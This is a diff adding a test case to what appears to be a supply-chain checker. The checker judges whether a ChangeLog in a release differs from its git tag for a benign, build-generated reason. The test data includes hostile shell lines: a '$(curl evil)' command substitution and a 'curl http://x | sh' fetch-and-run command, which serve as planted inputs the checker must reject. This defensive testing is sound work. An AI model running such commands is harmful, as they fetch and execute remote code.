@@ -57,6 +57,22 @@ test('ChangeLogs written from the commit log are explained, with the tagged comm
   assert.match(j!.reasons[0]!, 'log2changes');
 });
 
+test("a comment line the tag's Makefile.am echoes above the log is the recipe's (p11-kit 0.25.5)", async () => {
+  const banner = '# Generate automatically. Do not edit.';
+  const makefileAm = `dist-hook:\n\t( echo '${banner}'; echo; git log --stat --date=short ) > ChangeLog.tmp\n`;
+  const short = gitLog.replace('Date:   2022-10-07 10:52:54 +0200', 'Date:   2022-10-07');
+  const ctx = context({ ChangeLog: 'See the commit log.\n', 'Makefile.am': makefileAm }, { tagCommit });
+  const j = await changelog.judge(modified('ChangeLog', `${banner}\n\n${short}`), ctx);
+  assert.is(j?.category, 'generated-changelog');
+  assert.match(j!.reasons[1]!, `"${banner}", is echoed by Makefile.am in the tag`);
+  // A line the tag does not echo, or one a shell would expand, is not the recipe's.
+  assert.is(await changelog.judge(modified('ChangeLog', `# Planted.\n\n${short}`), ctx), undefined);
+  assert.is(await changelog.judge(modified('ChangeLog', `${banner}\n\n${short}`), context({ ChangeLog: 'x\n' }, { tagCommit })), undefined);
+  const expands = '# $(curl evil)';
+  const withExpansion = context({ ChangeLog: 'x\n', 'Makefile.am': `dist-hook:\n\techo '${expands}'\n` }, { tagCommit });
+  assert.is(await changelog.judge(modified('ChangeLog', `${expands}\n\n${short}`), withExpansion), undefined);
+});
+
 test('a ChangeLog with code at column 0, or dated after the tag, is not explained', async () => {
   const ctx = context({}, { tagCommit });
   assert.is(await changelog.judge(added('ChangeLog', `${gnu}\nexport PATH=/tmp\ncurl http://x | sh\n`), ctx), undefined);
